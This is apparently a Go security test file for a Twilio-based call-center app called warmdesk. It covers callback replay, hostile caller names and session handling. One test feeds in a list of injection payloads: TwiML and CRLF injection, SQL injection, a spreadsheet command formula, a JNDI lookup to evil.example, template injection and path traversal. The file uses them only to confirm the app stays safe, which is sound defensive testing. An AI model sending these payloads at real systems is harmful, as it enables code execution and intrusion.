package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"warmdesk/twilio"
	"warmdesk/twiml"
)

// recorder keeps every status callback of the double.
type recorder struct {
	mu    sync.Mutex
	forms []url.Values
}

// take is a knob of the double's, which delivers each callback once.
func (r *recorder) take(form url.Values) int {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.forms = append(r.forms, form)
	return 1
}

func (r *recorder) all() []url.Values {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.forms)
}

// TestAttackReplays sends genuine callbacks again, late and in any order, and
// asks for documents again: nothing changes, and nobody is told more than the leg
// is to be told now.
func TestAttackReplays(t *testing.T) {
	t.Parallel()
	v := twilioVictim(t)
	for _, request := range []string{"hold", "resume"} {
		v.step(request)
	}
	if !v.calm() {
		t.Fatal("the call does not come to rest")
	}
	before := v.state()
	forms := v.callbacks.all()
	if len(forms) < 4 {
		t.Fatalf("only %d callbacks", len(forms))
	}
	slices.Reverse(forms)
	for _, form := range append(forms, forms...) {
		path := v.fill("/conference/status")
		switch {
		case form.Has("StatusCallbackEvent"):
			path = v.fill("/conference/{call}/events")
		case form.Get("CallSid") != v.call:
			path = v.fill("/conference/{id}/legs/{id}-2")
		}
		if a := v.genuine(path, form); a.status != http.StatusOK {
			t.Errorf("%s %v: %d %s", path, form, a.status, a.body)
		}
	}
	if err := v.unharmed(before); err != nil {
		t.Fatal(err)
	}
	strangers := url.Values{"AccountSid": {testAccount}, "CallSid": {"CA" + strings.Repeat("e", 32)}, "CallStatus": {"in-progress"}, "Direction": {"outbound-api"}}
	for _, path := range []string{"/conference/{call}/connect/agent1", "/conference/{id}/connect/agent1?leg={id}-2", "/conference/{call}/connect/agent2/", "/conference/{call}/out?leg={id}-1", "/conference/{id}/out?leg={id}-2"} {
		a := v.genuine(v.fill(path), strangers)
		if a.status != http.StatusOK || strings.Contains(a.body, "<Conference") || strings.Contains(a.body, v.call) || strings.Contains(a.body, "15550001") {
			t.Errorf("%s tells a leg that is nobody's: %d %s", path, a.status, a.body)
		}
		if err := v.unharmed(before); err != nil {
			t.Fatalf("%s: %v", path, err)
		}
	}
	v.replayWhenOver(forms)
}

// replayWhenOver ends the call and sends everything again, how it began as well:
// nobody is offered a customer who is not there.
func (v *victim) replayWhenOver(forms []url.Values) {
	v.Helper()
	v.step("end")
	v.until("agent1", v.cookies["ana"], "rid of the call", func(s snapshot) bool { return len(s.Calls) == 0 })
	arrival := url.Values{"AccountSid": {testAccount}, "CallSid": {v.call}, "From": {"+15550001"}, "To": {testNumber}, "CallStatus": {"ringing"}, "Direction": {"inbound"}}
	for _, path := range []string{"/conference/connect/client", "/conference/wait", "/conference/{call}/out?leg={id}-1"} {
		if a := v.genuine(v.fill(path), arrival); a.status != http.StatusOK || strings.Contains(a.body, "<Conference") {
			v.Errorf("%s when the call is over: %d %s", path, a.status, a.body)
		}
	}
	for _, form := range forms {
		if form.Has("StatusCallbackEvent") {
			v.genuine(v.fill("/conference/{call}/events"), form)
		} else {
			v.genuine(v.fill("/conference/status"), form)
		}
	}
	for _, who := range []string{"ana", "ben"} {
		if page := v.shown(who); strings.Contains(page, v.call) || !strings.Contains(page, `"calls":[]`) || !strings.Contains(page, `"queue":[]`) {
			v.Errorf("the page of %s when the call is over: %s", who, page)
		}
	}
}

// step makes Ana press a button.
func (v *victim) step(request string) {
	v.Helper()
	v.until("agent1", v.cookies["ana"], "allowed to "+request, func(s snapshot) bool { return len(s.Calls) == 1 && slices.Contains(s.Calls[0].Allowed, request) })
	if a := v.strike(attack{as: "ana", method: "POST", path: "/api/calls/{id}/" + request, body: "{}"}); a.status != http.StatusAccepted {
		v.Fatalf("%s: %d %s", request, a.status, a.body)
	}
}

// calm waits until Ana talks again and nothing moves any more.
func (v *victim) calm() bool {
	v.Helper()
	v.until("agent1", v.cookies["ana"], "talking", func(s snapshot) bool { return len(s.Calls) == 1 && s.Calls[0].Stage == "talking" })
	last := ""
	for range 20 {
		now := fmt.Sprint(v.state())
		if now == last && v.talking() == nil {
			return true
		}
		last = now
		time.Sleep(200 * time.Millisecond) // longer than the carrier's callbacks take here
	}
	return false
}

// genuine posts a form as the carrier does.
func (v *victim) genuine(path string, form url.Values) reply {
	v.Helper()
	return v.strike(attack{name: path, method: "POST", path: path, body: form.Encode(), headers: []string{
		"Content-Type", "application/x-www-form-urlencoded", twilio.SignatureHeader, twilio.Sign(testToken, v.url+path, form),
	}})
}

// TestAttackWords has customers call under names and numbers that are markup,
// headers or commands elsewhere. The documents stay what they are, the agent's
// page gets the words, and Twilio finds no fault.
func TestAttackWords(t *testing.T) {
	t.Parallel()
	v := twilioVictim(t)
	for i, words := range []string{
		`</Say><Dial><Number>+19005550100</Number></Dial><Say>`, `]]><Redirect>https://evil.example/</Redirect>`, `<![CDATA[x]]>`, `&lol;&#0;&#x1F;`,
		"Dana\r\nX-Header: y\r\n\r\n<Response/>", "Dana\x00\x01\x08\x0b\x1b[31m", `" onload="x`, `'; DROP TABLE calls; --`, "\u202eanaD\u2066\ufeff", "\xff\xfe\xc0\xaf",
		"=cmd|' /C calc'!A0", "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../etc/passwd", "client:agent1?x=y&leg=z", strings.Repeat("Ü", 500),
	} {
		sid := fmt.Sprintf("CA%032d", i)
		for _, form := range []url.Values{
			{"CallerName": {words}, "From": {"+15550777"}},
			{"CallerName": {"Eve"}, "From": {words}, "Team": {words}},
		} {
			form.Set("AccountSid", testAccount)
			form.Set("CallSid", sid)
			form.Set("To", testNumber)
			form.Set("CallStatus", "ringing")
			form.Set("Direction", "inbound")
			for _, path := range []string{"/conference/connect/client", "/conference/wait", "/conference/" + sid + "/out"} {
				a := v.genuine(path, form)
				v.harmless(words, a)
			}
			over := url.Values{"AccountSid": {testAccount}, "CallSid": {sid}, "CallStatus": {"completed"}, "Direction": {"inbound"}, "From": form["From"], "SequenceNumber": {"9"}}
			if a := v.genuine("/conference/status", over); a.status != http.StatusOK {
				t.Errorf("%q: end: %d %s", words, a.status, a.body)
			}
			sid = fmt.Sprintf("CB%032d", i)
		}
		for _, path := range []string{"/api/calls.json", "/api/calls.csv"} {
			a := v.strike(attack{as: "ana", method: "GET", path: path})
			if a.status != http.StatusOK || strings.Contains(a.body, "\n=cmd") || strings.Contains(a.body, ",=cmd") {
				t.Errorf("%s after %q: %d %.300s", path, words, a.status, a.body)
			}
		}
		if err := v.talking(); err != nil {
			t.Fatalf("%q: %v", words, err)
		}
	}
	if faults := v.double.Faults(); len(faults) > 0 {
		t.Errorf("Twilio would complain: %q", faults)
	}
}

// harmless checks that an answer is a document of the few verbs that a customer's
// has, whatever their name is.
func (v *victim) harmless(words string, a reply) {
	v.Helper()
	document, err := twiml.Parse([]byte(a.body))
	if a.status != http.StatusOK || err != nil {
		v.Errorf("%q: %d %s: %v", words, a.status, a.body, err)
	}
	for _, verb := range document {
		switch d := verb.(type) {
		case twiml.Say, twiml.Play, twiml.Hangup, twiml.Gather, twiml.Pause:
		case twiml.Redirect:
			v.ours(words, d.URL)
		case twiml.Dial:
			if d.Conference == nil {
				v.Errorf("%q makes a dial of another kind: %s", words, a.body)
				continue
			}
			v.ours(words, d.Action)
		default:
			v.Errorf("%q makes a %T: %s", words, verb, a.body)
		}
	}
	for name, values := range a.header {
		if strings.HasPrefix(name, "X-Header") {
			v.Errorf("%q is the header %s: %q", words, name, values)
		}
	}
}

// ours checks that an address in a document is the desk's.
func (v *victim) ours(words, address string) {
	v.Helper()
	if address != "" && !strings.HasPrefix(address, v.url+"/") {
		v.Errorf("%q leads to %s", words, address)
	}
}

// TestAttackSessions: a session is made by signing in and by nothing else, and
// ends when it is ended.
func TestAttackSessions(t *testing.T) {
	t.Parallel()
	v := twilioVictim(t)
	before := v.state()
	signIn := func(cookie string) (string, reply) {
		a := v.strike(attack{method: "POST", path: "/api/session", body: url.Values{"agent": {"agent2"}, "password": {benPassword}}.Encode(),
			headers: []string{"Cookie", cookie, "Content-Type", "application/x-www-form-urlencoded"}})
		set := a.header.Get("Set-Cookie")
		value, _, _ := strings.Cut(set, ";")
		if a.status != http.StatusNoContent || !strings.Contains(set, "HttpOnly") || !strings.Contains(set, "SameSite=") || strings.Contains(set, "Domain=") {
			t.Fatalf("sign-in: %d %q", a.status, set)
		}
		return value, a
	}
	name, _, _ := strings.Cut(v.cookies["ben"], "=")
	planted := name + "=" + strings.Repeat("ab", 32)
	first, _ := signIn(planted)
	second, _ := signIn(first)
	if first == planted || first == second || len(first) < len(name)+40 {
		t.Errorf("sessions: %s, then %s", first, second)
	}
	snapshot := func(cookie string) int {
		return v.strike(attack{method: "GET", path: "/api/agents/agent2/snapshot", headers: []string{"Cookie", cookie}}).status
	}
	if status := snapshot(planted); status != http.StatusUnauthorized {
		t.Errorf("the planted session opens the page: %d", status)
	}
	if a := v.strike(attack{method: "DELETE", path: "/api/session", headers: []string{"Cookie", second, "Warmdesk-Agent", "agent2"}}); a.status != http.StatusNoContent {
		t.Errorf("sign-out: %d %s", a.status, a.body)
	}
	if status := snapshot(second); status != http.StatusUnauthorized {
		t.Errorf("a session that was ended opens the page: %d", status)
	}
	var page map[string]any
	if err := json.Unmarshal([]byte(v.shown("ana")), &page); err != nil {
		t.Fatal(err)
	}
	v.cookies["ben"] = v.session("agent2", benPassword)
	after := v.state()
	for _, name := range []string{"table calls", "table legs", "table timeline", "table actions"} {
		if before[name] != after[name] {
			t.Errorf("%s has changed", name)
		}
	}
	if err := v.talking(); err != nil {
		t.Error(err)
	}
}
